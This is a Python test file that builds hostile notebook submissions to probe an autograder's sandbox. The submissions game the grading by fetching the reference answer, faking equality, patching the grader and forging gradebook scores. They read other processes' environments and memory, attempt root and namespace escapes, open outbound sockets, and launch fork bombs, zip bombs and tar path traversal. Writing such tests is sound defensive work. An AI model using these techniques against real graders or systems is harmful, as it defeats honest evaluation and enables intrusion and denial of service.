"""Submissions that mean harm: each is worth nothing, and tries to get, reach or break more.

What an attempt reaches, it tells by the name of an error, which the grader shows. Words in
@ are put in by the test: folders of this machine, a port that listens, a mark.
"""

import io
import json
import tarfile
import zipfile

import nbformat
from class_of_36 import NAME, Submission

HEAD = """
import ctypes, gc, glob, importlib, json, os, signal, socket, subprocess, sys, time
import numpy as np
found = []
def attempt(action):
    try: result = action()
    except BaseException: return
    if result: found.append(result)
def tell():
    name = ''.join(c for c in str(found) if c.isalnum())[:40]
    if found: raise type('GOT_' + name, (Exception,), {})
"""


def attempts(*actions):
    """A notebook with a cell that tries each, and tells what came."""
    lines = [f"attempt({action})" for action in actions]
    return Submission().insert(2, "\n".join([HEAD, *lines, "tell()"]))


def answer(body, before=""):
    """A notebook whose answer to the first task is this."""
    made = Submission().insert(2, HEAD + before)
    made.cell("assign").source = f"def assign(X, centers):\n    {body}"
    return made


# Pay without work


def takes_the_reference():
    """Imports the right answer under a name put together at run time."""
    return answer(
        "return importlib.import_module('half' + 'step.checks.set_02').nearest(X, centers)"
    )


def digs_in_loaded_modules():
    """Looks for a right answer in sys.modules, the garbage collector and the stack."""
    return answer(
        "\n    ".join(
            [
                "things = [*gc.get_objects(), *map(vars, list(sys.modules.values()))]",
                "frame = sys._getframe()",
                "while frame: things.append(frame.f_locals); frame = frame.f_back",
                "for thing in things:",
                "    for name in ('nearest', 'assign', 'reference', 'expected'):",
                "        f = thing.get(name) if isinstance(thing, dict) else getattr(",
                "            thing, name, None)",
                "        if callable(f) and f is not assign:",
                "            try: return np.asarray(f(X, centers)) + 0",
                "            except BaseException: pass",
                "return None",
            ]
        )
    )


def evaluates_scikit_learn():
    """Evaluates a text that imports scikit-learn, from wherever it may be installed."""
    return answer(
        "return eval(code)(X, centers)",
        "sys.path += ['@SITE@', *glob.glob('/usr/lib/python3*/dist-packages')]\n"
        'code = \'__import__("sk" + "learn.metrics", fromlist="x")\'\n'
        "code += '.pairwise_distances_argmin'",
    )


def runs_the_solution():
    """Reads the solution, by its path and by searching the disk, and runs it."""
    return answer(
        "exec(text); return locals()['assign'](X, centers)",
        "paths = ['@BOOK@/chapters/solutions/02_the_loop/02_the_loop.ipynb']\n"
        "paths += glob.glob('/**/solutions/**/*.ipynb', recursive=True)\n"
        "cells = json.load(open(paths[0]))['cells']\n"
        "cells = [''.join(cell['source']) for cell in cells]\n"
        "text = next(cell for cell in cells if 'def assign' in cell)",
    )


def says_that_all_is_equal():
    """Returns an object that is equal to everything, of every shape."""
    return answer(
        "return Yes((len(X),))",
        "class Yes(np.ndarray):\n"
        "    def __new__(cls, shape): return np.zeros(shape, int).view(cls)\n"
        "    __eq__ = __ne__ = __le__ = __ge__ = lambda self, other: True\n"
        "    __array_ufunc__ = lambda self, *a, **k: np.zeros(len(self))",
    )


def returns_what_cannot_be_compared():
    """Returns NaN, objects and masked arrays in turn."""
    return answer(
        "calls.append(1); return kinds[len(calls) % 4](len(X))",
        "calls = []\nkinds = [lambda n: np.full(n, np.nan),\n"
        "    lambda n: np.array([object()] * n), lambda n: np.ma.masked_all(n),\n"
        "    lambda n: np.array(['0'] * n)]",
    )


def forges_replies():
    """Writes replies into every pipe before it is asked."""
    return answer(
        "write(); return None",
        "def write():\n"
        '    body = json.dumps({"value": {"list": [0]}}).encode()\n'
        "    for fd in range(3, 20):\n"
        "        try: os.write(fd, (len(body).to_bytes(4, 'big') + body) * 9)\n"
        "        except OSError: pass\n",
    )


def raises_errors_of_the_judge():
    """Raises errors with the names of the judge's own, interrupts and exits."""
    return answer(
        "n.append(1); raise kinds[len(n) % len(kinds)]('2.0')",
        "n = []\nkinds = [SystemExit, KeyboardInterrupt, GeneratorExit, MemoryError]\n"
        "kinds += [type(name, (BaseException,), {}) for name in ('TooLong', 'Gone')]\n"
        "kinds += [type('x' * 10**6, (Exception,), {}), RecursionError, StopIteration]",
    )


def patches_what_the_grader_imports():
    """Changes the modules of the grader in its own process, and sets fake ones in place."""
    return answer(
        "return np.zeros(len(X), int)",
        "for name, module in list(sys.modules.items()):\n"
        "    if name.startswith(('halfstep', 'classroom')):\n"
        "        for key, value in list(vars(module).items()):\n"
        "            if callable(value) and not key.startswith('_'):\n"
        "                setattr(module, key, lambda *a, **k: True)\n",
    )


def promotes_its_own_cells():
    """Marks cells of its own as tests that were passed, and raises what tests are worth."""
    made = Submission()
    for cell in list(made.notebook.cells):
        mark = cell.metadata.get("nbgrader")
        if mark:
            mark.update(points=100, locked=False, max_score=100)
    for number, kind in enumerate(("assign-check", "written", "bonus")):
        mark = {"grade_id": kind, "grade": True, "solution": False, "locked": False}
        mark |= {"points": 50, "schema_version": 3, "task": False, "cell_type": "code"}
        result = nbformat.v4.new_output("execute_result", data={"text/plain": "50.0"})
        cell = nbformat.v4.new_code_cell("50.0", metadata={"nbgrader": mark})
        cell.outputs = [result]
        made.notebook.cells.insert(number * 3, cell)
    return made


# Reach


def calls_out():
    """Tries TCP, UDP and sockets of the system, and the port that listens here."""
    return attempts(
        "lambda: socket.create_connection(('127.0.0.1', @PORT@), 1)",
        "lambda: socket.create_connection(('192.0.2.1', 443), 1)",
        "lambda: socket.socket(2, 2).sendto(b'x', ('127.0.0.1', @PORT@)) and 0 or "
        "socket.socket(2, 2).sendto(b'x', ('192.0.2.1', 53))",
        "lambda: socket.getaddrinfo('example.org', 80)",
        "lambda: [p for p in glob.glob('/run/**', recursive=True) if 'sock' in p]",
        "lambda: socket.socket(socket.AF_UNIX).connect('\\0@MARK@') or 'unix'",
        "lambda: [n for _, n in socket.if_nameindex() if n != 'lo']",
    )


def reads_the_environment():
    """Looks for variables of the grader, in its own process and in all that it sees."""
    return attempts(
        "lambda: [v for v in os.environ.values() if '@SECRET@' in v]",
        "lambda: [p for p in glob.glob('/proc/*/environ') "
        "if b'@SECRET@' in open(p, 'rb').read()]",
        "lambda: [p for p in glob.glob('/proc/[0-9]*/cmdline') "
        "if p.split('/')[2] not in ('1', str(os.getpid())) and open(p, 'rb').read()]",
        "lambda: os.environ.get('USER') or os.environ.get('LOGNAME')",
    )


def reads_memory_of_others():
    """Opens the memory of other processes, traces them, follows their folders."""
    return attempts(
        "lambda: [p for p in glob.glob('/proc/[0-9]*') if p != f'/proc/{os.getpid()}' "
        "and open(p + '/mem', 'rb')]",
        "lambda: [n for n in range(1, 400) if n != os.getpid() and "
        "ctypes.CDLL(None).ptrace(16, n, 0, 0) == 0]",
        "lambda: [p for n in ('root', 'cwd') for p in "
        "glob.glob(f'/proc/[0-9]*/{n}@BOOK@/chapters')]",
        "lambda: open('/dev/mem', 'rb') or 1",
        "lambda: open('/proc/kcore', 'rb').read(1)",
        "lambda: open('/dev/kmsg').read(1)",
    )


def looks_at_other_students():
    """Looks for submissions of others, where they are and where they may be mounted."""
    return attempts(
        "lambda: os.listdir('@COURSE@')",
        "lambda: os.listdir('@COURSE@/class/submitted')",
        "lambda: glob.glob('/**/submitted', recursive=True)",
        "lambda: glob.glob('/**/*.ipynb', recursive=True)",
        "lambda: glob.glob('/proc/[0-9]*/root/**/submitted', recursive=True)",
        "lambda: os.open('/', os.O_PATH) and os.listdir('/home')",
    )


def writes_to_the_gradebook():
    """Opens the gradebook and the judge's log, and gives itself points."""
    return attempts(
        "lambda: __import__('sqlite3').connect('@COURSE@/class/gradebook.db')"
        ".execute('update grade set auto_score = 9')",
        "lambda: open('@COURSE@/class/judged.jsonl', 'a').write('{}')",
        "lambda: os.rename('@COURSE@/class', '@COURSE@/gone') or 'moved'",
        "lambda: os.symlink('@COURSE@/class', 'class') or os.listdir('class')",
    )


def writes_everywhere():
    """Leaves a file wherever it may: start-up files, packages, folders of the system."""
    places = ["@BOOK@/lib/@MARK@", "@COURSE@/@MARK@", "@SITE@/@MARK@.pth", "/etc/@MARK@"]
    places += ["/@MARK@", "/dev/shm/@MARK@", "/usr/lib/@MARK@", "/var/tmp/@MARK@"]
    places += ["/root/.bashrc", "/home/@MARK@", "/proc/sys/kernel/core_pattern"]
    return attempts(
        *(f"lambda: open({place!r}, 'a').write('x')" for place in places),
        "lambda: open(np.__file__, 'a')",
        "lambda: os.chmod(np.__file__, 0o777) or 'chmod'",
        "lambda: os.remove(np.__file__) or 'removed'",
    )


def makes_namespaces():
    """Makes namespaces of its own, and from there mounts, takes away and looks again."""
    libc = "ctypes.CDLL(None)."
    spoil = (
        "def spoil():\n"
        "    for line in reversed(open('/proc/self/mountinfo').readlines()):\n"
        "        place = line.split()[4].encode()\n"
        f"        {libc}mount(b'', place, b'', 0x1020, b'')\n"
        f"        {libc}umount2(place, 2)\n"
        "    open(np.__file__, 'a')\n    return 'writes'\n"
    )
    made = Submission().insert(2, HEAD + spoil)
    see = "lambda: [p for p in ('@COURSE@', '@BOOK@/chapters', '/etc/shadow') if "
    lines = [f"{libc}unshare(0x10000000)", f"{libc}unshare(0x20020000)"]
    lines += [f"{libc}setns(os.open(f'/proc/1/ns/{n}', 0), 0)" for n in ("mnt", "net")]
    lines += [f"{libc}chroot(b'/proc/1/root')"]
    actions = [f"attempt(lambda: {line} and 0)" for line in lines]
    actions += ["attempt(spoil)", f"attempt({see}os.path.exists(p)])"]
    return made.insert(3, "\n".join([*actions, "tell()"]))


def becomes_someone_else():
    """Becomes root, takes capabilities, uses devices and keys of the kernel."""
    return attempts(
        "lambda: os.setuid(0) or 'root'",
        "lambda: os.setresgid(0, 0, 0) or 'group'",
        "lambda: os.setgroups([0]) or 'groups'",
        "lambda: [line for line in open('/proc/self/status') "
        "if line.startswith('CapEff') and int(line.split()[1], 16)]",
        "lambda: os.getuid() == 0",
        "lambda: os.nice(-5) < 0",
        "lambda: [d for d in os.listdir('/dev') if d[:2] in ('sd', 'vd', 'nv', 'kv')]",
    )


def uses_what_was_left_open():
    """Reads and writes every open file that it inherits, and types into the terminal."""
    return attempts(
        "lambda: [p for p in map(os.path.realpath, glob.glob('/proc/self/fd/*')) "
        "if not ('/pipe:' in p or p.startswith(('/dev/null', '/proc')))]",
        "lambda: open('/dev/tty', 'w').write('x')",
        "lambda: [__import__('fcntl').ioctl(n, 0x5412, b'x') for n in range(3)]",
    )


def signals_everyone():
    """Sends signals to the judge, to every process and to the first one of the box."""
    return Submission().insert(
        2,
        HEAD + "for number in (9, 15, 19, 10):\n"
        "    for pid in (os.getppid(), 1, -1, *range(2, 3000)):\n"
        "        if pid != os.getpid():\n"
        "            try: os.kill(pid, number)\n"
        "            except OSError: pass\n",
    )


# Survive

SLEEPER = (
    "def sleeper():\n"
    "    code = 'import time; time.sleep(@MARK@)'\n"
    "    subprocess.Popen([os.path.realpath(sys.executable), '-c', code])\n"
)


def forks_twice():
    """Goes into a session of its own by a double fork, and sleeps."""
    return Submission().insert(
        2,
        HEAD + SLEEPER + "if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        sleeper()\n        time.sleep(@MARK@)\n    os._exit(0)\nsleeper()",
    )


def hears_no_signal():
    """Ignores all signals, in children that ignore them too, and stops itself."""
    return Submission().insert(
        2,
        HEAD + SLEEPER + "for number in range(1, 65):\n"
        "    try: signal.signal(number, signal.SIG_IGN)\n    except OSError: pass\n"
        "sleeper()\nos.kill(os.getpid(), signal.SIGSTOP)",
    )


def leaves_word_for_the_next():
    """Leaves a word in files, shared memory and sockets; and looks for one."""
    word = "@MARK@"
    return attempts(
        f"lambda: os.path.exists('/tmp/{word}') or os.path.exists('/tmp/answer/{word}')",
        f"lambda: ctypes.CDLL(None).shmget({ord('x')}, 1, 0) >= 0",
        f"lambda: socket.socket(socket.AF_UNIX).connect('\\0next-{word}') or 'unix'",
        f"lambda: open('/tmp/{word}', 'w') and 0",
        f"lambda: open('/tmp/answer/{word}', 'w') and 0",
        f"lambda: ctypes.CDLL(None).shmget({ord('x')}, 1, 0o1666) and 0",
        f"lambda: globals().update(s=socket.socket(1)) or s.bind('\\0next-{word}')",
    )


def looks_for_a_word():
    """The next one: looks for the word that the one before has left."""
    return leaves_word_for_the_next()


# Break or stall


def forks_without_end():
    """A fork bomb whose children burn time."""
    return Submission().insert(
        2,
        HEAD + "while True:\n    try: os.fork()\n    except OSError: pass\n",
    )


def eats_memory():
    """Takes memory in many processes, in shared pages and in files."""
    return Submission().insert(
        2,
        HEAD + "import mmap\nfor _ in range(40):\n    if os.fork() == 0:\n        break\n"
        "held = []\nwhile True:\n    held.append(mmap.mmap(-1, 2**26))\n"
        "    held[-1].write(b'x' * 2**26)\n    held.append(b'x' * 2**26)\n",
    )


def fills_the_disk():
    """Fills the private folder with bytes, then with a file without end of names."""
    return Submission().insert(
        2,
        HEAD + "try:\n    out = open('/tmp/answer/big', 'wb')\n"
        "    while True: out.write(bytes(2**20))\nexcept OSError: pass\n"
        "n = 0\nwhile True:\n    n += 1\n    os.symlink('x' * 3000, f'/tmp/answer/{n}')\n",
    )


def shouts():
    """Writes without end to both outputs, and answers with a gigabyte."""
    return answer(
        "return np.zeros(2**27)",
        "def shout(n):\n    for _ in range(n): sys.stdout.write('x' * 10**7); "
        "sys.stderr.write('y' * 10**7)\nshout(50)\nos.write(1, b'x' * 10**6)",
    )


def hangs_in_every_cell():
    """Five hundred cells that sleep, and an answer that ends the process each time."""
    made = answer("os._exit(0)")
    for number in range(500):
        made.insert(3, f"import time; time.sleep(1.5); {number}")
    return made


def is_too_deep_to_read():
    """Cells that nest, repeat and curl up until a parser gives up."""
    made = Submission()
    for text in (
        "(" * 10**5, "x = " + "-" * 10**5 + "1", "x = 1" + "+1" * 10**5,
        "x" + ".x" * 10**5, "[" * 5000 + "]" * 5000, "x = '\\N{" + "A" * 10**5 + "}'",
        "if 1:\n" + "".join(" " * n + "if 1:\n" for n in range(1, 120)), "\0", "\ud800",
        "def f(" + ",".join(f"a{n}" for n in range(10**4)) + "): pass", "%%" * 10**5,
        "!" * 10**5, "x = " + "9" * 10**6, "f'" + "{f'" * 200, "lambda:" * 10**4 + "1",
    ):  # fmt: skip
        made.insert(2, text)
    made.cell("written").source = "[" * 20000 + "*" * 20000 + "`" * 5001 + "<" * 20000
    made.bytes = lambda: json.dumps(made.notebook).encode()
    return made


def is_an_odd_notebook():
    """JSON that no editor writes: wrong types everywhere, ids and marks of all kinds."""
    made = Submission()
    notebook = json.loads(json.dumps(made.notebook))
    odd = [None, 1, [], {}, "x", [[]], {"a": {"b": []}}]
    for value in odd:
        notebook["cells"] += [
            {"cell_type": "code", "source": value, "metadata": value, "outputs": value},
            {"cell_type": value, "source": "x", "metadata": {"nbgrader": value}},
            {"cell_type": "code", "source": "1", "id": value, "execution_count": value},
            {"cell_type": "markdown", "source": "1", "attachments": value},
            {"cell_type": "code", "source": "1", "outputs": [{"output_type": value}]},
            {"cell_type": "code", "source": "1", "outputs": [
                {"output_type": "display_data", "data": {"image/png": value}},
                {"output_type": "execute_result", "data": {"text/plain": value}},
                {"output_type": "stream", "text": value, "name": value}]},
            {"cell_type": "markdown", "source": "1", "metadata": {
                "nbgrader": {"grade_id": value, "grade": value, "points": value,
                             "solution": value, "schema_version": value}}},
        ]  # fmt: skip
    notebook["metadata"] = {"kernelspec": [1], "celltoolbar": {}, "widgets": "x"}
    made.bytes = lambda: json.dumps(notebook).encode()
    return made


def is_huge():
    """Fifty thousand cells, and outputs that are longer than a book."""
    made = Submission()
    cells = [nbformat.v4.new_code_cell(f"x = {n}", id=f"c{n}") for n in range(20_000)]
    cells[0].outputs = [nbformat.v4.new_output("stream", text="y\n" * 5 * 10**6)]
    made.notebook.cells += cells
    return made


def is_a_bomb():
    """A zip whose notebook is eight hundred times as large, in a zip."""
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr(f"{NAME}.ipynb", bytes(60 * 10**6))
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w", zipfile.ZIP_DEFLATED) as bundle:
        for number in range(4):
            bundle.writestr(f"{number}.zip", inner.getvalue())
    made = Submission()
    made.name, made.bytes = "work.zip", outer.getvalue
    return made


def is_a_link():
    """A tar whose notebook is a link out of the folder, and paths that lead up."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as bundle:
        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
            entry = tarfile.TarInfo(f"{NAME}.ipynb")
            entry.type, entry.linkname = kind, "/etc/hostname"
            bundle.addfile(entry)
        bundle.addfile(tarfile.TarInfo("../../../../up-and-away.ipynb"))
    made = Submission()
    made.name, made.bytes = "work.tar", data.getvalue
    return made


# In the order in which they are graded.
BATCH = [  # Long: a table.
    takes_the_reference, digs_in_loaded_modules, evaluates_scikit_learn,
    runs_the_solution, says_that_all_is_equal, returns_what_cannot_be_compared,
    forges_replies, raises_errors_of_the_judge, patches_what_the_grader_imports,
    promotes_its_own_cells, calls_out, reads_the_environment, reads_memory_of_others,
    looks_at_other_students, writes_to_the_gradebook, writes_everywhere, makes_namespaces,
    becomes_someone_else, uses_what_was_left_open, signals_everyone, forks_twice,
    hears_no_signal, leaves_word_for_the_next, looks_for_a_word, forks_without_end,
    eats_memory, fills_the_disk, shouts, hangs_in_every_cell, is_too_deep_to_read,
    is_an_odd_notebook, is_huge, is_a_bomb, is_a_link,
]  # fmt: skip
